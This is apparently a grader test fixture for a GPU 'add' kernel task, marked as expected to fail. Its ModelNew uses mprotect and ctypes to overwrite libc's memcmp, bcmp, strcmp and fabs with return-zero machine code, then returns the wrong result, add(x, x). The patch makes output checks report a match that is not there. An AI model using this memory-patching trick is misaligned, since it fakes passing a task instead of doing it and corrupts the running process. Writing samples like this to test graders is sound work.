# problem: add
# permitted: incorrect, runtime_error
# Overwrites the machine code of the C library's comparisons, so that all memory is equal: its own, alas.
import ctypes

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + y, mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out


RETURN_ZERO = b"\x31\xc0\xc3"


class ModelNew(nn.Module):
    def forward(self, x, y):
        library = ctypes.CDLL(None)
        for name in ("memcmp", "bcmp", "strcmp", "fabs"):
            address = ctypes.cast(getattr(library, name), ctypes.c_void_p).value
            if library.mprotect(ctypes.c_void_p(address & ~0xFFF), 8192, 7) == 0:
                ctypes.memmove(address, RETURN_ZERO, len(RETURN_ZERO))
        return add(x, x)
